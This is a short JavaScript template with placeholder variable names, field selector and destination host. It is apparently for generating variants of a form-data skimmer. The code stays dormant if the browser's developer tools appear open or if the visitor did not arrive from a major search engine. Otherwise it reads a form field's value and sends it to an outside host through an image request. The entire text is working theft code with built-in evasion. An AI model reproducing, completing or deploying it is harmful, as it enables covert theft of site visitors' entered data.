(function () {
  var %N1% = window.outerWidth - window.innerWidth > 160 || window.outerHeight - window.innerHeight > 200;
  if (%N1% || !/google\.|bing\.|duckduckgo\./.test(document.referrer)) return;
  document.addEventListener('%EVENT%', function () {
    var %N2% = document.querySelector('%FIELD%');
    if (%N2% && %N2%.value) new Image().src = 'https://%HOST%/%PATH%?' + encodeURIComponent(%N2%.value);
  });
})();
